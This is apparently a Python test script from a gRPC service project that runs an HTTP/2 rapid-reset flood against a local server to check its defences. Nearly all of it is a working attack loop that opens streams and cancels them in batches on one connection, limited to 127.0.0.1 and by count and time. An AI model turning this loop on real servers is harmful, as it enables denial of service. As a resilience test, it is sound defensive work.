"""HTTP/2 rapid reset against a server on this machine: HEADERS (and the request) then RST_STREAM,
in a loop on one connection, bounded in count and time. Run as a process of its own (so that it
does not share the test's interpreter), it prints what it saw as one JSON line:
``python tests/rapid_reset.py PORT SECONDS MAX_RESETS``."""

from __future__ import annotations

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events

BATCH = 50
REQUEST = b"\x00\x00\x00\x00\x03\x0a\x01s"
"""A framed GetTodosRequest(session_id="s")."""


def attack(port: int, seconds: float, max_resets: int) -> dict[str, object]:
    """Reset streams until the time or the count runs out, or the server closes the connection."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/sessiontodo.v1.TodoService/GetTodos"),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    resets, pings, goaway, closed = 0, 0, None, False
    deadline = time.monotonic() + seconds
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        while time.monotonic() < deadline and resets < max_resets and not closed:
            for _ in range(BATCH):
                stream_id = connection.get_next_available_stream_id()
                connection.send_headers(stream_id, headers)
                connection.send_data(stream_id, REQUEST)
                connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                resets += 1
            try:
                sock.sendall(connection.data_to_send())
                sock.setblocking(False)
                while chunk := sock.recv(1 << 16):
                    for event in connection.receive_data(chunk):
                        if isinstance(event, h2.events.PingReceived):
                            pings += 1  # h2 acknowledges it with the next send
                        elif isinstance(event, h2.events.ConnectionTerminated):
                            goaway, closed = str(event.error_code), True
                else:
                    closed = True  # the server closed the connection
            except BlockingIOError:
                pass
            except OSError:
                closed = True
            finally:
                sock.setblocking(True)
                sock.settimeout(2)
    return {"resets": resets, "pings": pings, "goaway": goaway, "closed": closed}


if __name__ == "__main__":
    print(json.dumps(attack(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]))))
